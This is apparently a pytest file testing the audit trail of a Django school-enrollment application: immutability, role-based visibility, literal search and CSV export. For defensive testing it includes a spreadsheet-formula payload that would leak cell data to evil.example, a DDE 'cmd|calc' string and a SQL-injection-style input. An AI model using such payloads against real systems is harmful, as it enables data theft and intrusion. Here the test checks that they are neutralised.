"""The audit trail: every change, by whatever code, with who and why."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.db import Error, connection, transaction

pytestmark = pytest.mark.django_db


def test_a_change_by_a_person_has_who_where_and_why(signed_in, round_):
    from citycompact.web.site.trail import events

    office = signed_in("office")
    data = {
        "name": "Renamed",
        "opens_at": "2026-11-01T08:00",
        "closes_at": "2027-02-01T23:59",
        "grades": ["K"],
        "rulebook": round_.rulebook_id,
        "why": "typo in the name",
    }
    office.post(f"/office/round/{round_.pk}/edit/", data)
    event = next(events(kind="round"))
    assert (event["name_now"], event["why"], event["route"]) == (
        "Amina Yusuf",
        "typo in the name",
        "enrollment:edit_round",
    )
    assert event["content"]["name"] == "Renamed"
    page = office.get("/office/trail/?q=typo").content.decode()
    assert "typo in the name" in page


def test_a_change_that_goes_past_the_application_is_in_the_trail_too(application):
    from citycompact.web.site.trail import events

    with connection.cursor() as cursor:
        cursor.execute(
            "update enrollment_child set given_name = 'Changed' where applicant_id = %s",
            [application.child_id],
        )
        cursor.execute("delete from enrollment_guardian where child_id = %s", [application.child_id])
    found = list(events(application.child_id, limit=10))
    assert ("child", "update") in {(e["kind"], e["label"]) for e in found}
    assert any(e["kind"] == "guardian" and e["label"] == "delete" for e in events(kind="guardian", limit=5))


@pytest.mark.parametrize(
    "statement", ["delete from enrollment_childevent", "update enrollment_childevent set given_name = 'x'"]
)
def test_the_trail_itself_cannot_be_changed(statement, application):
    application.child.save()
    with pytest.raises(Error), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(statement)


def test_a_submitted_version_cannot_be_changed(application):
    with pytest.raises(Error), transaction.atomic():
        application.versions.update(content={})


def test_the_auditor_takes_the_whole_trail_and_can_change_nothing(signed_in, round_):
    auditor = signed_in("auditor")
    lines = b"".join(auditor.get("/office/trail.csv").streaming_content).decode().splitlines()
    assert lines[0].startswith("at,kind,label,object,who")
    assert len(lines) > 300
    for path in ("freeze/", "draw/", "what-if/", "propose/", "publish/"):
        assert auditor.post(f"/decisions/match/{round_.pk}/{path}").status_code == 403
    assert auditor.post(f"/office/round/{round_.pk}/edit/").status_code == 403
    assert signed_in("office").get("/office/trail.csv").status_code == 403


def test_the_keys_of_signers_schools_reserves_scores_and_accounts_are_in_the_trail(application):
    from citycompact.web.city.models import City, Operator, Program, Reserve, School
    from citycompact.web.enrollment.models import Score
    from citycompact.web.site.models import User
    from citycompact.web.site.trail import events

    city, program = City.objects.get(), Program.objects.first()
    city.signers = [{**city.signers[0], "name": "Somebody else"}, *city.signers[1:]]
    city.save()
    Operator.objects.filter(pk=program.school.operator_id).update(sector="charter", name="Turned")
    School.objects.filter(pk=program.school_id).update(name="Renamed")
    Reserve.objects.create(program=program, position=9, group="sibling", seats=1)
    Score.objects.create(child=application.child, program=program, score=3)
    User.objects.filter(email="parent@demo.example").update(phone="+1 555 0100")
    for kind, word in (
        ("city", "Somebody else"),
        ("operator", "Turned"),
        ("school", "Renamed"),
        ("reserve", "sibling"),
        ("score", application.child_id),
        ("account", "+1 555 0100"),
    ):
        newest = next(events(kind=kind))
        assert word in str(newest["content"]), kind
    assert "password" not in newest["content"], "no hash of a password is copied"


def test_each_role_reads_what_is_declared_for_it(signed_in):
    from citycompact.web.site.trail import seen_by

    office, steward, auditor = (
        {seen.kind for seen in seen_by({role}).values()} for role in ("office", "steward", "auditor")
    )
    assert auditor == office | steward
    assert {"child", "city", "account"} <= office - steward
    assert {"promise", "interview"} <= steward - office
    page = signed_in("steward").get("/office/trail/").content.decode()
    assert "interview" in page
    assert "guardian" not in page


def test_nobody_sees_in_the_trail_who_answered_a_survey():
    from citycompact.web.compact.models import SurveyAnswer, SurveyTicket
    from citycompact.web.declarations import trail_tables

    assert not {SurveyAnswer, SurveyTicket} & set(trail_tables())


def test_the_trail_is_read_and_searched_in_spanish(signed_in, round_):
    round_.save()
    client = signed_in("office")
    client.cookies["django_language"] = "es"
    page = client.get("/office/trail/", {"kind": "round"}).content.decode()
    assert '<option value="round" selected>ronda</option>' in page
    assert "ronda: " in page
    assert "round: " not in page
    shown = re.findall(r'<option value="([^"]+)" +>([^<]+)</option>', page)
    assert dict(shown).items() >= {"school": "escuela", "child": "niño o niña"}.items()
    assert [said for _, said in shown] == sorted(said for _, said in shown)


def test_a_note_of_the_steward_is_no_auditors_in_the_trail_either(signed_in):
    from citycompact.web.compact.models import Promise

    promise = Promise.objects.get(pk="guide")
    promise.private_note = "zzsecret of the steward"
    promise.pledge = "One guide shows every school, zzpublic."
    promise.save()
    auditor, steward = signed_in("auditor"), signed_in("steward")
    for word, who, there in (
        ("zzpublic", auditor, True),
        ("zzsecret", steward, True),
        ("zzsecret", auditor, False),
    ):
        page = who.get("/office/trail/", {"q": word}).content.decode().split("<tbody>")[1]
        assert ("guide" in page) is there, word
    assert "zzsecret" not in auditor.get("/office/trail/", {"q": "zzpublic"}).content.decode()
    whole = b"".join(auditor.get("/office/trail.csv").streaming_content).decode()
    assert "zzpublic" in whole
    assert "zzsecret" not in whole
    assert "private_note" not in whole


def test_the_trail_as_csv_holds_no_formula(signed_in, family):
    client = signed_in("family")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    client.post("/family/profile/", {"name": formula, "language": "en", "phone": "", "why": "=cmd|calc!A1"})
    whole = b"".join(signed_in("auditor").get("/office/trail.csv").streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(whole)) for cell in row]
    assert f"'{formula}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


def test_no_event_is_lost_between_two_pages_though_all_happened_at_one_moment(signed_in, monkeypatch):
    """Everything in a transaction has one time; a page ends in the midst of it."""
    from citycompact.web.city.models import School
    from citycompact.web.site import trail_pages

    monkeypatch.setattr(trail_pages, "A_PAGE", 5)
    auditor = signed_in("auditor")
    for school in School.objects.all():
        school.name = f"Renamed {school.pk}"
        school.save()
    address, shown, pages = "?kind=school&q=Renamed", [], 0
    while address:
        page = auditor.get(f"/office/trail/{address}").content.decode()
        shown += re.findall(r"<summary>([^<]+)</summary>", page)
        following = re.search(r'href="(\?[^"]*before=[^"]*)"', page)
        address = following[1].replace("&amp;", "&") if following else ""
        pages += 1
    assert sorted(shown) == sorted(School.objects.values_list("pk", flat=True))
    assert pages == -(-len(shown) // 5)


def test_the_csv_holds_every_event_once_with_account_and_address_of_the_time(signed_in, monkeypatch):
    from citycompact.web.declarations import trail_tables
    from citycompact.web.site import trail

    monkeypatch.setattr(trail, "CHUNK", 100)
    client, auditor = signed_in("office"), signed_in("auditor")
    client.post("/family/profile/", {"name": "Zz", "language": "en", "phone": ""})
    whole = b"".join(auditor.get("/office/trail.csv").streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(whole)))
    places = [(row["event_table"], int(row["event_id"])) for row in rows]
    assert len(places) == len(set(places))
    there = {
        (model._meta.db_table, number)
        for model in trail_tables().values()
        for number in model._default_manager.values_list("pk", flat=True)
    }
    assert set(places) == there
    mine = next(row for row in rows if row["kind"] == "account" and row["route"] == "profile")
    assert mine["email"] == "office@demo.example"
    assert len(mine["who"]) == 36
    assert mine["name_now"] == "Zz"


ODD = [
    "%",
    "_",
    "\\",
    "'",
    '"',
    "x" * 10_000,
    "ñandú Ángel",
    "\u202e",
    "{",
    "null",
    "0x1",
    "C'; drop table x",
]


@pytest.mark.parametrize("field", ["q", "person", "child", "kind", "before"])
def test_whatever_is_typed_gives_a_page(signed_in, field):
    auditor = signed_in("auditor")
    for typed in [*ODD, "2027-01-01~x~1", "2027-01-01T00:00~x~99999999999999999999", "0001-01-01~x~1", "~~"]:
        assert auditor.get("/office/trail/", {field: typed}).status_code == 200, typed
    assert auditor.get("/office/trail/", {field: "a\0b"}).status_code == 400


def test_the_role_of_the_database_is_not_found_as_a_word(round_):
    """Every event has it, so that its letters would find all of them."""
    from citycompact.web.site.trail import events

    round_.save()
    with connection.cursor() as cursor:
        cursor.execute("select session_user")
        (role,) = cursor.fetchone()
    assert not list(events(role, "round"))


def test_what_is_typed_is_no_pattern(application):
    from citycompact.web.site.trail import events

    child = application.child
    child.given_name = '100% of_this \\ or "quoted" Peña'
    child.save()
    for typed in ("100% of", "of_this", "this \\ or", '"quoted"', "QUOTED", "Peña"):
        assert next(events(typed, "child"))["object"] == child.pk, typed
    for typed in ("1%0% of", "of%this", "o__this", "this .* or"):
        assert not list(events(typed, "child")), typed


def test_a_child_is_found_with_all_that_belongs_to_it_and_no_other_child(application, signed_in):
    from citycompact.web.city.models import School
    from citycompact.web.enrollment.models import Claim, Document
    from citycompact.web.site.trail import events

    child = application.child
    claim = Claim.objects.create(
        child=child, round_id="main", school=School.objects.first(), claim="staff_child"
    )
    document = Document.objects.create(claim=claim, file="x", kind="image/png", bytes=1)
    signed_in("office").post("/office/applications/", {"q": child.pk}, follow=True)
    found = list(events(child=child.pk, limit=1_000))
    kinds = {event["kind"] for event in found}
    assert kinds >= {"child", "guardian", "application", "submitted version", "claim", "document", "reading"}
    assert str(document.pk) in {event["object"] for event in found}
    assert {e["object"] for e in found if e["kind"] == "child"} == {child.pk}
    assert not list(events(child=child.pk[:-1], limit=5))
    assert not list(events(child="%", limit=5))
    signed_in("office").get("/decisions/match/main/package.zip")
    (taken,) = [e for e in events(child=child.pk, limit=1_000) if e["label"] == "export"]
    assert taken["content"]["file"].endswith(".zip"), "the whole package holds this child too"


def test_a_role_that_may_not_see_a_column_does_not_find_by_it(signed_in):
    from citycompact.web.compact.models import Promise

    Promise.objects.filter(pk="guide").update(private_note="zzsecret of the steward")
    for client in (signed_in("auditor"), signed_in("steward")):
        for field in ("person", "child"):
            page = client.get("/office/trail/", {field: "zzsecret of the steward"}).content.decode()
            assert "guide" not in page.split("<tbody>")[1]
